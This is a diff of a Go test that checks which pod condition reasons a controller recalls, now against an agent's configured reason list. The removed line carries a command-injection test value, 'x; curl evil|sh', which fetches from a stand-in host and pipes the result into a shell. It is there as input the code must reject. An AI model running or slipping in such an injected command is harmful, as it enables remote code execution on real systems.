@@ -565,12 +565,13 @@ func TestLookingBackDoesNotHoldUpTheLoop(t *testing.T) {
 	})
 }
 
-// A reason that is no name is nobody's cause, whoever has written it.
+// A reason that the agent does not give is nobody's cause, whoever has written it.
 func TestConditionOfOthersIsNotRecalled(t *testing.T) {
-	for reason, recalled := range map[string]bool{"ShimHung": true, "Resolved": true, "": false, "x; curl evil|sh": false, "Evil\u2800Remedy": false} {
+	a := &Agent{Reasons: []string{"ShimHung", "Resolved"}}
+	for reason, recalled := range map[string]bool{"ShimHung": true, "Resolved": true, "": false, "RunCurlEvilExampleAsRoot": false, "Evil\u2800Remedy": false} {
 		p := new(corev1.Pod)
 		p.Status.Conditions = []corev1.PodCondition{{Type: verdict.ConditionType, Status: corev1.ConditionTrue, Reason: reason}}
-		if got := subject(p).Condition != nil; got != recalled {
+		if got := a.subject(p).Condition != nil; got != recalled {
 			t.Errorf("a condition with the reason %q is recalled: %v", reason, got)
 		}
 	}
